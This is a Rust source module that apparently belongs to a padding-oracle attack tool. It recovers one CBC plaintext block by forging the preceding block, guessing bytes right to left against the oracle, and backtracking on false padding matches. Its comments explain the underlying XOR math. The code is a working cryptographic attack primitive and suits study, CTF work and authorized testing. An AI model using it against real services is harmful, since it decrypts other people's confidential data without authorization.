// Recover one plaintext block through a padding oracle.
//
// CBC decryption gives
//
//                 P_j = D(C_j) ⊕ C_{j-1}.
//
// If we send the oracle X || C_j instead, where X is a block we control, it
// decrypts C_j to P'_j = D(C_j) ⊕ X = P_j ⊕ C_{j-1} ⊕ X. No key is involved,
// so choosing X lets us decide what P'_j is, provided we know P_j.
//
// We attack the block right to left. With k bytes already discovered, the pad
// we aim for is p = k + 1 and the byte under attack sits at index N - p. Take
//
//        X[i] = C_{j-1}[i] ⊕ P_j[i] ⊕ p         for the k known bytes,
//        X[N - p] = C_{j-1}[N - p] ⊕ g ⊕ p      for a guess g,
//
// and leave the rest of X equal to C_{j-1}. The known bytes of P'_j are now all
// p, and P'_j[N - p] = P_j[N - p] ⊕ g ⊕ p, which is p exactly when g is the
// right guess. So the oracle reports valid padding for the right guess.
//
// At p = 1 a wrong guess can also pass, when it happens to complete a longer
// pad such as '\x02\x02'. Such a guess makes every later position fail, at
// which point we pop it and resume the search from the next candidate.
use crate::{guesses_from, Block, Error, Oracle, Result, Verdict, BLOCK_SIZE};

use tracing::{debug, info, warn};

/// Recovered bytes of the block under attack, last byte of the block first.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
struct DiscoveredBytes(Vec<u8>);

impl DiscoveredBytes {
    fn is_full(&self) -> bool {
        self.0.len() == BLOCK_SIZE
    }

    fn push(&mut self, byte: u8) {
        debug_assert!(!self.is_full());
        self.0.push(byte);
    }

    fn pop(&mut self) -> Option<u8> {
        self.0.pop()
    }

    /// Index within the block of the byte currently under attack.
    fn position(&self) -> usize {
        BLOCK_SIZE - self.0.len() - 1
    }

    /// The pad value the next guess must complete.
    fn pad(&self) -> u8 {
        self.0.len() as u8 + 1
    }

    /// The discovered plaintext byte at `index` within the block.
    fn at(&self, index: usize) -> u8 {
        self.0[BLOCK_SIZE - index - 1]
    }

    fn as_plaintext(&self) -> Vec<u8> {
        self.0.iter().rev().copied().collect()
    }

    fn into_block(self) -> Block {
        let mut block = [0u8; BLOCK_SIZE];
        block
            .iter_mut()
            .zip(self.0.into_iter().rev())
            .for_each(|(b, p)| *b = p);
        block
    }
}

/// Recover the plaintext of `target` given the ciphertext block preceding it.
///
/// `block_idx` is the index of `target` in the full ciphertext and is only
/// used for diagnostics.
pub async fn recover_block<O: Oracle>(
    oracle: &mut O,
    previous: &Block,
    target: &Block,
    block_idx: usize,
) -> Result<Block> {
    let mut discovered = DiscoveredBytes::default();
    let mut start_guess = 0u8;
    while !discovered.is_full() {
        let position = discovered.position();
        let mut forged = make_forged_block(previous, &discovered);
        let found = find_byte(
            oracle,
            &mut forged,
            (previous, target),
            &discovered,
            start_guess,
            block_idx,
        )
        .await?;
        match found {
            Some(byte) => {
                discovered.push(byte);
                start_guess = 0;
                debug!(
                    block = block_idx,
                    position,
                    byte = format_args!("{byte:#04x}"),
                    plaintext = %String::from_utf8_lossy(&discovered.as_plaintext()),
                    "found plaintext byte"
                );
            }
            None => match discovered.pop() {
                Some(rejected) => {
                    warn!(
                        block = block_idx,
                        position,
                        rejected = format_args!("{rejected:#04x}"),
                        "no guess fits, backtracking"
                    );
                    start_guess = rejected + 1;
                }
                None => {
                    warn!(block = block_idx, "exhausted every guess for block");
                    return Err(Error::AttackExhausted { block: block_idx });
                }
            },
        }
    }
    info!(block = block_idx, "recovered block");
    Ok(discovered.into_block())
}

// Copy of `previous` with the already discovered bytes forced to the pad value.
fn make_forged_block(previous: &Block, discovered: &DiscoveredBytes) -> Block {
    let pad = discovered.pad();
    let mut forged = *previous;
    for i in (discovered.position() + 1)..BLOCK_SIZE {
        forged[i] ^= discovered.at(i) ^ pad;
    }
    forged
}

async fn find_byte<O: Oracle>(
    oracle: &mut O,
    forged: &mut Block,
    (previous, target): (&Block, &Block),
    discovered: &DiscoveredBytes,
    start_guess: u8,
    block_idx: usize,
) -> Result<Option<u8>> {
    let position = discovered.position();
    let pad = discovered.pad();
    for guess in guesses_from(start_guess) {
        forged[position] = previous[position] ^ guess ^ pad;
        match oracle.query(forged, target).await? {
            Verdict::Valid => return Ok(Some(guess)),
            Verdict::Invalid => continue,
            Verdict::Malformed => {
                return Err(Error::MalformedVerdict {
                    block: block_idx,
                    position,
                })
            }
        }
    }
    Ok(None)
}
